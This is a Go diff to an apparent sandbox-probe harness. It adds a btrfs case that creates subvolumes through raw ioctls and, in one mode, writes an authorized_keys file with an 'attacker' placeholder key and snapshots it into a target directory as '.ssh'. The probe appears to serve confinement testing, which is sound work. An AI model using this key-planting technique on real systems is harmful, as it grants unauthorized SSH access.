@@ -242,6 +242,53 @@ func review7Probe(ctx context.Context, fullID string, raw []byte) (text string, 
 			return "", errnoOp("FS_IOC_REMOVE_ENCRYPTION_KEY", e), true
 		}
 		return fmt.Sprintf("removed (status %#x)", rm.Removal_status_flags), nil, true
+	case "r7_btrfs":
+		// On btrfs: with a.M 0, makes an empty subvolume named "planted"
+		// in the directory a.Path; with a.M 1, makes a subvolume
+		// "payload" in the workspace, writes authorized_keys in it, and
+		// snapshots it into a.Path as ".ssh".
+		const subvolCreate, snapCreateV2 = 0x5000940e, 0x50009417
+		dst, err := unix.Open(a.Path, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			return "", errnoOp("open", err), true
+		}
+		defer unix.Close(dst)
+		// struct btrfs_ioctl_vol_args(_v2): a descriptor, then flags and
+		// the name; 4096 bytes either way.
+		var args [4096]byte
+		if a.M != 1 {
+			copy(args[8:], "planted")
+			if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(dst), subvolCreate, uintptr(unsafe.Pointer(&args[0]))); e != 0 {
+				return "", errnoOp("BTRFS_IOC_SUBVOL_CREATE", e), true
+			}
+			return "planted", nil, true
+		}
+		ws, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			return "", errnoOp("open .", err), true
+		}
+		defer unix.Close(ws)
+		copy(args[8:], "payload")
+		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(ws), subvolCreate, uintptr(unsafe.Pointer(&args[0]))); e != 0 {
+			return "", errnoOp("BTRFS_IOC_SUBVOL_CREATE", e), true
+		}
+		if err := os.WriteFile("payload/authorized_keys", []byte("ssh-ed25519 AAAA attacker\n"), 0o600); err != nil {
+			return "", err, true
+		}
+		src, err := unix.Open("payload", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			return "", errnoOp("open payload", err), true
+		}
+		defer unix.Close(src)
+		// struct btrfs_ioctl_vol_args_v2: the source's descriptor,
+		// transid, flags, four words, then the name.
+		var v2 [4096]byte
+		binary.NativeEndian.PutUint64(v2[0:8], uint64(src))
+		copy(v2[56:], ".ssh")
+		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(dst), snapCreateV2, uintptr(unsafe.Pointer(&v2[0]))); e != 0 {
+			return "", errnoOp("BTRFS_IOC_SNAP_CREATE_V2", e), true
+		}
+		return "snapshot", nil, true
 	case "r7_secretmem":
 		// a.N MiB of secret memory (memfd_secret), mapped and touched
 		// 4 MiB at a time, each window unmapped before the next: the
